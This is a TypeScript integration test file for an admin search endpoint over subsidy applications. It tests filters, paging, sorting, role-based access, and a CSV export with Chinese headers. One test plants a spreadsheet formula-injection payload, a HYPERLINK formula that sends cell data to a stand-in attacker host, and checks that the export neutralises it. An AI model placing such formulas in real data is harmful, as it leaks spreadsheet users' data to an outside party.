import { createTokenService } from '../../api/auth';
import { enterpriseBody } from '../helpers/fixtures';
import { ApiClient, as, eventually, startStack, type TestStack } from '../helpers/stack';
import { newApplicant, submit } from '../helpers/world';

/** The staff search over all applications: each filter, paging, sorting, the CSV, and who may use it. */
let stack: TestStack;
let admin: ApiClient;
const ids: string[] = [];

beforeAll(async () => {
  stack = await startStack();
  admin = await as(stack, { role: 'admin' });
  for (const track of ['INCLUSIVE', 'INCLUSIVE', 'SRDI'] as const) {
    const a = await newApplicant(stack, track);
    const res = await submit(stack, a, track);
    ids.push(res.body.id as string);
  }
  await eventually(
    () => stack.db.application.count({ where: { id: { in: ids }, verifiedFacts: { not: undefined } } }),
    (n) => n === 3,
  );
  await eventually(
    () => stack.db.application.count({ where: { id: { in: ids }, status: 'INITIAL_REVIEW' } }),
    (n) => n === 3,
  );
});
afterAll(() => stack?.stop());

const search = (q: string) => admin.get(`/api/v1/admin/applications?${q}`);
const found = (r: { body: { items: { id: string }[] } }) =>
  r.body.items.map((i) => i.id).filter((id) => ids.includes(id));

describe('GET /api/v1/admin/applications', () => {
  it('finds by number, its beginning, credit code and a part of the name', async () => {
    expect(found(await search(`number=${ids[1]}`))).toEqual([ids[1]]);
    expect(found(await search(`number=${ids[0]!.slice(0, 8)}`)).length).toBeGreaterThan(0);
    const app = await stack.db.application.findUniqueOrThrow({ where: { id: ids[2]! } });
    expect(found(await search(`creditCode=${app.creditCode}`))).toEqual([ids[2]]);
    expect(found(await search(`name=${encodeURIComponent('海淀测试')}`)).sort()).toEqual([...ids].sort());
    expect(found(await search(`name=${encodeURIComponent('不存在的企业')}`))).toEqual([]);
  });

  it('filters by status, track, street office and submission days (Beijing)', async () => {
    expect(found(await search('track=SRDI'))).toEqual([ids[2]]);
    expect(found(await search('status=INITIAL_REVIEW&track=INCLUSIVE')).sort()).toEqual(
      [ids[0], ids[1]].sort(),
    );
    expect(found(await search('status=PAID'))).toEqual([]);
    const office = await search(`streetOffice=${encodeURIComponent('中关村街道')}`);
    expect(office.body.items.every((i: { streetOffice: string }) => i.streetOffice === '中关村街道')).toBe(
      true,
    );
    expect(found(office).length).toBeGreaterThan(0);
    const today = new Date(Date.now() + 8 * 3600_000).toISOString().slice(0, 10);
    expect(found(await search(`from=${today}&to=${today}`)).sort()).toEqual([...ids].sort());
    expect(found(await search('from=2020-01-01&to=2020-12-31'))).toEqual([]);
  });

  it('pages and sorts, and counts the whole result', async () => {
    const first = await search('name=%E6%B5%B7%E6%B7%80&pageSize=2&sort=id');
    const second = await search('name=%E6%B5%B7%E6%B7%80&pageSize=2&page=2&sort=id');
    expect(first.body.total).toBeGreaterThanOrEqual(3);
    const all = [...first.body.items, ...second.body.items].map((i: { id: string }) => i.id);
    expect(all).toEqual([...all].sort());
    expect(new Set(all).size).toBe(all.length);
    const newest = await search('sort=-createdAt');
    const times = newest.body.items.map((i: { createdAt: string }) => i.createdAt);
    expect(times).toEqual([...times].sort().reverse());
  });

  it('exports the result as a CSV in 元 with Chinese headers', async () => {
    const res = await fetch(`${stack.baseUrl}/api/v1/admin/applications?format=csv&track=SRDI`, {
      headers: { authorization: `Bearer ${admin.token}` },
    });
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const bytes = Buffer.from(await res.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]); // Excel's byte-order mark
    const lines = bytes.subarray(3).toString('utf8').split('\r\n');
    expect(lines[0]).toBe(
      '申请编号,统一社会信用代码,企业名称,补贴类别,状态,所属街镇,核定补贴（元）,测算补贴（元）,提交时间（北京时间）',
    );
    const row = lines.find((l) => l.startsWith(`${ids[2]},`))!;
    expect(row).toMatch(/,专精特新（产品目录）,初审中,[^,]*,,\d+\.\d{2},\d{4}-\d{2}-\d{2} \d{2}:\d{2}$/);
  });

  it('writes a name that a spreadsheet would run as a formula as inert text', async () => {
    const a = await newApplicant(stack, 'INCLUSIVE');
    const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")';
    expect((await a.client.put(`/api/v1/enterprises/${a.code}`, enterpriseBody({ name: evil }))).status).toBe(
      200,
    );
    const id = (await submit(stack, a, 'INCLUSIVE')).body.id as string;
    const res = await fetch(`${stack.baseUrl}/api/v1/admin/applications?format=csv&creditCode=${a.code}`, {
      headers: { authorization: `Bearer ${admin.token}` },
    });
    const row = (await res.text()).split('\r\n').find((l) => l.startsWith(`${id},`))!;
    expect(row).toContain(`,"'${evil.replace(/"/g, '""')}",`);
  });

  it('is for administrators, approvers and finance; bad input is a 400 naming the field', async () => {
    expect(
      (await (await as(stack, { role: 'reviewer', org: 'committee' })).get('/api/v1/admin/applications'))
        .status,
    ).toBe(403);
    expect((await (await as(stack, { role: 'finance' })).get('/api/v1/admin/applications')).status).toBe(200);
    // An approver whose token names no organisation sees nothing of the district (docs/ACCESS.md).
    const noOrg = await createTokenService(stack.config.auth).sign({
      subject: 'approver-x',
      role: 'approver',
    });
    expect((await new ApiClient(stack.baseUrl, noOrg).get('/api/v1/admin/applications')).status).toBe(403);
    const bad = await search('status=NOPE&from=2026-13-01&sort=size');
    expect(bad.status).toBe(400);
    expect(bad.body.error.details.map((d: { path: string }) => d.path).sort()).toEqual([
      'query.from',
      'query.sort',
      'query.status.0',
    ]);
    const unknown = await admin.get('/api/v1/admin/applications?number=%25');
    expect(unknown.status).toBe(400); // too short: at least two characters
  });
});
